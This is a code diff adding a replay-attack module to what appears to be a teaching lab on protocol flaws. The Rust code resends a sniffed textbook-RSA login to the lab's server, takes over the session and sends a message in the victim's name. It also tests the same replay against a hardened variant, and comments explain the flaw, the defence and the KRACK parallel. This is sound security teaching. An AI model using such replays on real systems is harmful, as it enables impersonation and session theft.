@@ -1,0 +1,121 @@
+//! Logs in as a user from one login that was seen on the wire.
+//!
+//! # Flaw
+//! Textbook RSA has no randomness and the faithful server gives the client nothing fresh to work on: a user's login is
+//! the same bytes every time.
+//!
+//! # Attack
+//! Send the sniffed bytes again. No key is used, not even a public one; the name need not be known.
+//!
+//! # What it proves
+//! A proof that can be repeated by whoever saw it proves nothing about who repeats it.
+//!
+//! # Defence
+//! Fresh values from the server (`rs`, `epkS`) are under every key and signature; the old proof fits no new session.
+//!
+//! # In the wild
+//! KRACK, CVE-2017-13077: a replayed handshake message made WPA2 reinstall a key and start its nonces again.
+
+use futures_util::future::BoxFuture;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+use crate::{
+    Attack, Claim, Goal, Report, Run, Story, Target,
+    capture::{
+        dissect,
+        trace::{Side, Trace},
+    },
+    protocol::{
+        faithful::{message, record::Sealer},
+        hardened::message::{CLIENT_HELLO_LEN, SERVER_HELLO_LEN},
+    },
+    vantage::{Outsider, read_record},
+};
+
+/// The registry's line.
+pub const ATTACK: Attack = Attack {
+    id: "login-replay",
+    goal: Goal::LogIn,
+    title: "log in with a sniffed login",
+    vantage: "a sniffer of one honest session, and then a client of the server",
+    run: Run::Dial(run),
+};
+
+/// Left on the server as the victim's words.
+const SAID: &str = "said by a recording";
+
+fn run<'a>(outsider: &'a Outsider<'a>) -> BoxFuture<'a, Report> {
+    Box::pin(async move {
+        let mut story = Story::default();
+        let result = match outsider.target {
+            Target::Faithful => faithful(outsider, &mut story).await,
+            Target::Hardened => hardened(outsider, &mut story).await,
+        };
+        let claim = result.unwrap_or_else(|error| {
+            story.tell(format!("the server hung up: {error}"));
+            Claim::Nothing
+        });
+        Report::new(claim, story)
+    })
+}
+
+async fn faithful(outsider: &Outsider<'_>, story: &mut Story) -> anyhow::Result<Claim> {
+    let seen = dissect::faithful(outsider.sniffed);
+    story.tell(format!(
+        "sniffed: a login of {} bytes; Mallory does not know what is in it",
+        seen.login.len()
+    ));
+    let mut stream = outsider.dial.dial().await?;
+    stream.write_all(&seen.login).await?;
+    story.tell("Mallory -> server: the same bytes");
+
+    let mut replies = [0; message::REPLIES_LEN];
+    stream.read_exact(&mut replies).await?;
+    let secrets = message::decode_replies(&replies)?;
+    story.tell("server -> Mallory: \"Authentication Successful!\", a session key and an IV");
+    stream
+        .write_all(&Sealer::new(&secrets).seal(SAID.as_bytes())?)
+        .await?;
+    story.tell(format!("Mallory -> server: \"{SAID}\""));
+    Ok(Claim::LoggedIn {
+        user: outsider.user.to_owned(),
+        said: Some(SAID.to_owned()),
+    })
+}
+
+async fn hardened(outsider: &Outsider<'_>, story: &mut Story) -> anyhow::Result<Claim> {
+    let (hello, rest) = hello_and_records(outsider.sniffed);
+    story.tell(format!(
+        "sniffed: a hello of {} bytes and {} bytes of records",
+        hello.len(),
+        rest.len()
+    ));
+    let mut stream = outsider.dial.dial().await?;
+    stream.write_all(&hello).await?;
+    let mut server_hello = [0; SERVER_HELLO_LEN];
+    stream.read_exact(&mut server_hello).await?;
+    let seen = outsider.sniffed.stream(Side::Server);
+    let fresh = seen.get(..SERVER_HELLO_LEN) != Some(&server_hello[..]);
+    story.tell(format!(
+        "Mallory -> server: the same hello; the server's answer is {}",
+        if fresh {
+            "another than last time"
+        } else {
+            "the same as last time"
+        }
+    ));
+    read_record(&mut stream).await?;
+    stream.write_all(&rest).await?;
+    story.tell("Mallory -> server: the same proof and the same messages");
+    read_record(&mut stream).await?;
+    Ok(Claim::LoggedIn {
+        user: outsider.user.to_owned(),
+        said: None,
+    })
+}
+
+fn hello_and_records(trace: &Trace) -> (Vec<u8>, Vec<u8>) {
+    let mut hello = trace.stream(Side::Client);
+    let rest = hello.split_off(hello.len().min(CLIENT_HELLO_LEN));
+    (hello, rest)
+}
